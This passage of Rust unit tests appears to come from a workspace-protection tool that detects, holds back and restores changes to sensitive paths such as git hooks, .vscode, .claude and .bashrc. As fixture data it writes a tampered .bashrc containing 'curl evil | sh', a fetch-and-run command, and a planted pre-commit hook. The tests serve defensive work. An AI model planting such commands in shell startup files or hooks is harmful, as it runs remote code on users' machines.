            "sub/.git/hooks".to_owned(),
            Change::ChangedNested {
                raw: "sub/.git/hooks".into(),
            },
        );
        assert!(
            hold_back(ws, held.path(), &[gone])[0].is_err(),
            "a missing one is an error"
        );
    }

    #[test]
    fn a_created_path_is_held_back_and_can_be_restored() {
        let ws = tempfile::tempdir().unwrap();
        let held = tempfile::tempdir().unwrap();
        let ws = ws.path();
        let p = plan(ws, &defaults(), &[]).unwrap();
        fs_err::create_dir(ws.join(".vscode")).unwrap();
        fs_err::write(ws.join(".vscode/tasks.json"), "{}").unwrap();
        fs_err::create_dir_all(ws.join(".claude")).unwrap();
        fs_err::write(ws.join(".claude/notes.md"), "mine").unwrap();
        let found = changes(ws, &p.watched);
        assert_eq!(found, [(".vscode".to_owned(), Change::Created)]);
        let held_back: Vec<HeldBack> = hold_back(ws, held.path(), &found)
            .into_iter()
            .map(Result::unwrap)
            .collect();
        assert!(!ws.join(".vscode").exists());
        assert!(
            ws.join(".claude/notes.md").exists(),
            "unprotected files stay"
        );
        assert_eq!(
            fs_err::read_to_string(held.path().join(".vscode/tasks.json")).unwrap(),
            "{}"
        );
        restore_held(ws, &held_back[0]).unwrap();
        assert!(ws.join(".vscode/tasks.json").exists());
        assert!(
            changes(ws, &p.watched).len() == 1,
            "still a change against the plan"
        );
    }

    #[test]
    fn a_fresh_repository_keeps_its_sample_hooks_but_not_its_config() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path();
        let p = plan(ws, &defaults(), &[]).unwrap();
        fs_err::create_dir_all(ws.join(".git/hooks")).unwrap();
        fs_err::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
        fs_err::write(ws.join(".git/config"), "[core]\n").unwrap();
        assert_eq!(
            changes(ws, &p.watched),
            [(".git/config".to_owned(), Change::Created)]
        );
        fs_err::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
        assert_eq!(changes(ws, &p.watched).len(), 2);
    }

    #[test]
    fn a_link_made_where_a_parent_was_missing_is_the_change() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path();
        let p = plan(ws, &defaults(), &[]).unwrap();
        std::os::unix::fs::symlink("elsewhere", ws.join(".claude")).unwrap();
        assert_eq!(
            changes(ws, &p.watched),
            [(".claude".to_owned(), Change::Created)]
        );
    }

    #[test]
    fn a_replaced_link_is_held_back_and_the_link_put_back() {
        let ws = tempfile::tempdir().unwrap();
        let held = tempfile::tempdir().unwrap();
        let ws = ws.path();
        std::os::unix::fs::symlink("dotfiles/bashrc", ws.join(".bashrc")).unwrap();
        let p = plan(ws, &defaults(), &[]).unwrap();
        assert!(p.read_only.is_empty(), "links are not mounted: {p:?}");
        assert!(changes(ws, &p.watched).is_empty());
        fs_err::remove_file(ws.join(".bashrc")).unwrap();
        fs_err::write(ws.join(".bashrc"), "curl evil | sh\n").unwrap();
        let found = changes(ws, &p.watched);
        assert!(
            matches!(found[0].1, Change::ReplacedLink { .. }),
            "{found:?}"
        );
        for result in hold_back(ws, held.path(), &found) {
            result.unwrap();
        }
        assert_eq!(
            fs_err::read_link(ws.join(".bashrc")).unwrap(),
            Path::new("dotfiles/bashrc")
        );
        assert_eq!(
            fs_err::read_to_string(held.path().join(".bashrc")).unwrap(),
            "curl evil | sh\n"
        );
    }

    #[test]
    fn plain_relative_paths() {
        assert!(is_plain_relative(".vscode"));
        assert!(is_plain_relative("a/b"));
        for bad in ["", "/etc", "../x", "a/../b", "./a"] {
            assert!(!is_plain_relative(bad), "{bad}");
        }
    }
}
